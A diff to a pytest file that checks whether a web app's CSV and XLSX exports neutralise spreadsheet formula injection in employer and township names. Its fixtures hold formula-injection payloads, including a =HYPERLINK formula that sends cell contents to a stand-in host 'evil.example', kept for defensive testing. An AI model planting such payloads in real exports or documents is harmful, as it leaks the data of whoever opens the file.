@@ -18,6 +18,8 @@ from webapp.exports import neutral
 pytestmark = pytest.mark.web
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+#: within a township name's 40 characters
+EVIL_PLACE = '=HYPERLINK("http://e.example","x")'
 
 
 @pytest.fixture
@@ -27,8 +29,8 @@ def evil(app, db, accounts, login):
     app.config["ABLEMATCH_TODAY"] = "2026-11-28"
     db.add(LocalWage(jurisdiction="CN-ZJ", year=2025, average_yearly=Decimal("96000"),
                      minimum_monthly=Decimal("2280")))
-    township = make_township(db, "99", EVIL)
-    township.name_en = EVIL
+    township = make_township(db, "99", EVIL_PLACE)
+    township.name_en = EVIL_PLACE
     employer = make_employer(db, township, name=EVIL, headcount=100)
     declaration = QuotaDeclaration(employer=employer, year=2025, status=DeclarationStatus.SUBMITTED,
                                    staff_by_month=[100] * 12, total_wages=Decimal(6000000))
@@ -80,4 +82,4 @@ def test_the_quota_xlsx_export_holds_the_name_as_text_not_a_formula(evil, client
 
 def test_the_fair_report_csv_neutralises_a_township_named_as_a_formula(evil, client):
     cells = csv_cells(client.get(f"/fairs/{evil.id}/report.csv?lang=en"))
-    assert "'" + EVIL in cells and EVIL not in cells
+    assert "'" + EVIL_PLACE in cells and EVIL_PLACE not in cells
